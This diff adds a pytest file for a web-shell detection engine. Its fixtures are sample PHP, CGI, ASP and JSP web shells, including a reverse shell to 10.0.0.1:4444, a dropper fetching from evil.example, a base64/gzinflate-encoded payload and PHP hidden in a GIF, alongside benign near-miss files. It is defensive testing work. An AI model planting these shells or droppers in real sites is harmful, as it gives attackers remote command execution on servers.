@@ -1,0 +1,237 @@
+"""Engine behaviour on small hand-written samples: shells are flagged, near-misses are not."""
+import base64
+import logging
+import os
+import random
+import zlib
+
+import pytest
+
+from newfilewatch import engine as engine_mod
+from newfilewatch.engine import Engine
+
+KEYWORDS = ('wget', 'curl', 'lynx', 'gcc', 'perl', 'sh', 'cd', 'mkdir', 'touch', 'base64')
+
+
+@pytest.fixture(scope='module')
+def eng():
+    return Engine(keywords=KEYWORDS, threshold=10)
+
+
+def rules(verdict):
+    return {h.rule for h in verdict.hits}
+
+
+def _deflate(raw):
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return c.compress(raw) + c.flush()
+
+
+MALICIOUS = [
+    ('tiny.php', b"<?php @eval($_GET['p']);", 'php.code.request_input'),
+    ('cmd.php', b"<?php echo shell_exec($_POST['cmd']); ?>", 'php.exec.request_input'),
+    ('bt.php', b"<?php $c = $_REQUEST['c']; echo `$c`; ?>", 'php.exec.request_input'),
+    ('taint.php', b"<?php\n$x = trim($_COOKIE['k']);\n$y = base64_decode($x);\nsystem($y);\n",
+     'php.exec.request_input'),
+    ('cb.php', b"<?php array_map('assert', (array)$_REQUEST['z']);", 'php.code.request_input'),
+    ('fn.php', b"<?php $_GET['f']($_GET['a']);", 'php.call.request_function'),
+    ('cuf.php', b"<?php call_user_func($_POST['f'], $_POST['a']);", 'php.call.request_function'),
+    ('hdr.php', b"<?php $h = getallheaders(); eval($h['X-Run']);", 'php.code.request_input'),
+    ('inp.php', b"<?php eval(file_get_contents('php://input'));", 'php.code.request_input'),
+    ('inc.php', b"<?php include $_GET['page'];", 'php.include.request_input'),
+    ('split.php', b"<?php $f = 'as' . 'se' . 'rt'; $f($_POST['x']);", 'php.obfuscation.hidden_function'),
+    ('hex.php', b'<?php $f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f($_POST[1]);',
+     'php.obfuscation.hidden_function'),
+    ('chr.php', b'<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET[1]);',
+     'php.obfuscation.hidden_function'),
+    ('globals.php', b"<?php if ($cmd) { system($cmd); }", 'php.exec.global_input'),
+    ('rev.php', b"<?php $s=fsockopen('10.0.0.1', 4444); proc_open('/bin/sh -i', "
+                b"array(0=>$s, 1=>$s, 2=>$s), $p);", 'php.revshell.socket_shell'),
+    ('up.php', b"<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/x.php');",
+     'php.write.request_path'),
+    ('drop.php', b"<?php file_put_contents('x.php', file_get_contents('http://evil.example/s.txt'));",
+     'php.dropper.remote_write'),
+]
+
+
+@pytest.mark.parametrize('name,src,rule', MALICIOUS, ids=[m[0] for m in MALICIOUS])
+def test_malicious_samples_are_flagged_with_the_expected_rule(eng, name, src, rule):
+    v = eng.analyse(src, '/var/www/html/' + name)
+    assert rule in rules(v), v
+    if rule not in ('php.dropper.remote_write', 'php.write.request_path'):
+        assert v.suspicious, v
+
+
+def test_encoded_dropper_is_decoded_and_explained(eng):
+    blob = base64.b64encode(_deflate(b'system($_GET["c"]);')).decode()
+    v = eng.analyse(("<?php\n\neval(gzinflate(base64_decode('%s')));" % blob).encode(), 'x.php')
+    assert v.suspicious
+    assert {'php.code.decoded_input', 'php.exec.request_input'} <= rules(v)
+    inner = [h for h in v.hits if h.rule == 'php.exec.request_input'][0]
+    assert inner.line == 3 and inner.text.startswith('decoded: ')
+
+
+def test_mass_mailer(eng):
+    src = (b"<?php\n$list = explode(\"\\n\", $_POST['emails']);\n"
+           b"foreach ($list as $to) {\n  mail($to, $_POST['s'], $_POST['b']);\n}\n")
+    v = eng.analyse(src, 'm.php')
+    assert {'php.mailer.request_recipients', 'php.mailer.loop'} <= rules(v)
+    assert v.suspicious
+
+
+def test_hit_fields_explain_the_alert(eng):
+    v = eng.analyse(b"<?php\n// upload helper\n@eval($_POST['z']);\n", 'a.php')
+    h = [h for h in v.hits if h.rule == 'php.code.request_input'][0]
+    assert (h.line, h.severity, h.weight) == (3, 'critical', 15)
+    assert "eval($_POST['z'])" in h.text
+    assert v.score >= 15
+
+
+def test_php_in_image_and_cheap_clean_image(eng):
+    png = b'\x89PNG\r\n\x1a\n' + bytes(range(256)) * 40
+    assert not eng.analyse(png, 'photo.png').hits
+    jpg_xmp = b'\xff\xd8\xff\xe1<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>' + b'\0' * 100
+    assert not eng.analyse(jpg_xmp, 'p.jpg').hits
+    v = eng.analyse(b'GIF89a\x01\x00<?php system($_GET["c"]); ?>', 'avatar.gif')
+    assert 'file.code_in_image' in rules(v) and v.suspicious
+
+
+def test_htaccess_and_user_ini(eng):
+    v = eng.analyse(b'AddType application/x-httpd-php .jpg .png\n', '/srv/www/up/.htaccess')
+    assert 'htaccess.php_handler' in rules(v) and v.suspicious
+    ok = eng.analyse(b'AddHandler application/x-httpd-ea-php74 .php .php7 .phtml\n', '.htaccess')
+    assert not ok.hits
+    fpm = eng.analyse(b'<FilesMatch \\.php$>\n SetHandler "proxy:unix:/run/php/php-fpm.sock|fcgi://x"\n'
+                      b'</FilesMatch>\n', '.htaccess')
+    assert not fpm.hits
+    v = eng.analyse(b'auto_prepend_file = /var/www/html/uploads/a.gif\n', '.user.ini')
+    assert 'htaccess.auto_prepend' in rules(v) and v.suspicious
+
+
+def test_cgi_scripts(eng):
+    perl = (b'#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint `' + b'$' + b'{\\$q->param("c")}`;\n')
+    v = eng.analyse(perl, 'x.cgi')
+    assert 'cgi.exec.request_input' in rules(v) and v.suspicious
+    py = b'import socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",1))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n'
+    assert 'cgi.revshell' in rules(eng.analyse(py, 'r.py'))
+
+
+def test_asp_and_jsp(eng):
+    assert 'asp.exec.request_input' in rules(eng.analyse(b'<%eval request("x")%>', 'a.asp'))
+    jsp = b'<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>'
+    assert 'jsp.exec.request_input' in rules(eng.analyse(jsp, 'a.jsp'))
+
+
+def test_keywords_count_only_where_code_runs(eng):
+    v = eng.analyse(b'<?php system("cd /tmp; wget http://x/a; perl a"); ?>', 'k.php')
+    kws = [h for h in v.hits if h.rule == 'keyword.exec_context']
+    assert {h.text.split(':')[0] for h in kws} >= {'cd', 'wget', 'perl'}
+    assert v.suspicious
+    readme = b'Installation\n\nRun wget http://example.org/pkg.tgz, then mkdir cache and touch it.\n' \
+             b'This should work properly; check the hash.\n'
+    assert not eng.analyse(readme, 'readme.txt').hits
+
+
+BENIGN = [
+    ('avatar.php', b"""<?php
+$ext = strtolower(pathinfo($_FILES['avatar']['name'], PATHINFO_EXTENSION));
+if (!in_array($ext, array('jpg', 'png', 'gif'), true)) { die('bad type'); }
+$dest = __DIR__ . '/avatars/' . md5(uniqid('', true)) . '.' . $ext;
+move_uploaded_file($_FILES['avatar']['tmp_name'], $dest);
+"""),
+    ('thumb.php', b"""<?php
+$src = escapeshellarg($_FILES['img']['tmp_name']);
+exec('convert ' . $src . ' -resize 200x200 ' . escapeshellarg($out), $lines, $rc);
+"""),
+    ('cache.php', b"""<?php
+function save_settings($settings) {
+    file_put_contents(__DIR__ . '/cache/settings.php', '<?php return ' . var_export($settings, true) . ';');
+}
+"""),
+    ('http.php', b"""<?php
+$ch = curl_init('https://api.example.org/v1/items');
+curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
+$items = json_decode(curl_exec($ch), true);
+curl_close($ch);
+"""),
+    ('readme.txt', b'Install: wget the tarball, mkdir wp-content/cache, touch .htaccess, run sh setup.sh\n'),
+    ('plugin.php', b"""<?php
+/* Plugin Name: Share */
+function share_token($user) {
+    return base64_encode(json_encode(array('u' => $user->ID, 't' => time())));
+}
+function share_read($token) {
+    return json_decode(base64_decode($token), true);
+}
+add_action('init', function () { if (isset($_GET['share'])) { share_read($_GET['share']); } });
+"""),
+    ('app.min.js', b'!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,'
+                   b'l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}'
+                   b'n.m=e,n.c=t}([function(e,t){eval("1+1")}]);'),
+    ('router.php', b"""<?php
+$action = isset($_GET['action']) ? $_GET['action'] : 'index';
+$allowed = array('index', 'list');
+if (in_array($action, $allowed, true)) { include __DIR__ . '/views/' . $action . '.php'; }
+echo htmlspecialchars($_GET['q']);
+"""),
+]
+
+
+@pytest.mark.parametrize('name,src', BENIGN, ids=[b[0] for b in BENIGN])
+def test_benign_near_misses_are_not_flagged(eng, name, src):
+    v = eng.analyse(src, '/var/www/html/' + name)
+    assert not v.suspicious, v
+    assert v.score < 10
+
+
+def test_never_raises_on_random_or_hostile_bytes(eng):
+    rnd = random.Random(4)
+    pieces = [b'<?php', b'eval(', b'$_GET[', b'base64_decode(', b"'", b'"', b'\\x', b'`', b'(', b')',
+              b'chr(', b'/*', b'\n', b'gzinflate(', b'system(', b'$a', b'=', b';', b'\xff', b'<%']
+    for _ in range(300):
+        blob = b''.join(rnd.choice(pieces) for _ in range(rnd.randint(0, 200)))
+        for name in ('a.php', 'a.jpg', '.htaccess', 'a.cgi', 'a.txt', 'a.asp', '\udcff.php'):
+            v = eng.analyse(blob, name)
+            assert 'engine.error' not in rules(v), (blob, name)
+    assert eng.analyse(b'', 'empty.php').score == 0
+
+
+def test_disabled_rules_and_unknown_names():
+    src = b"<?php @eval($_GET['p']);"
+    e = Engine(disabled_rules=('php.code.request_input', 'php.code.eval_variable'))
+    assert not e.analyse(src, 'a.php').hits
+    with pytest.raises(ValueError) as err:
+        Engine(disabled_rules=('php.no.such_rule',))
+    assert 'php.no.such_rule' in str(err.value)
+    assert 'php.code.request_input' in Engine().rule_names()
+
+
+def test_threshold_is_configurable():
+    src = b'<?php system("ls");'                     # exec.call alone: 2 points
+    assert not Engine(threshold=10).analyse(src, 'a.php').suspicious
+    assert Engine(threshold=2).analyse(src, 'a.php').suspicious
+
+
+def test_from_config_uses_scan_section():
+    from newfilewatch import config
+    cfg = config.load(None) if not os.path.exists(config.DEFAULT_PATH) else None
+    if cfg is None:
+        pytest.skip('a real /etc/newfilewatch.conf exists on this machine')
+    e = Engine.from_config(cfg.scan)
+    assert e.threshold == cfg.scan.threshold and 'wget' in e.keywords
+
+
+def test_yara_missing_is_logged_once(caplog, tmp_path):
+    rule = tmp_path / 'r.yar'
+    rule.write_text('rule Foo { strings: $a = "zzz" condition: $a }')
+    if engine_mod.yarascan.yara is not None:
+        e = Engine(yara_rules=(str(tmp_path / '*.yar'),))
+        v = e.analyse(b'zzz', 'x.txt')
+        assert 'yara.Foo' in rules(v) and v.suspicious
+        return
+    with caplog.at_level(logging.WARNING):
+        e = Engine(yara_rules=(str(tmp_path / '*.yar'),))
+        e.analyse(b'zzz', 'x.txt')
+        e.analyse(b'zzz', 'y.txt')
+    msgs = [r for r in caplog.records if 'YARA' in r.getMessage()]
+    assert len(msgs) == 1
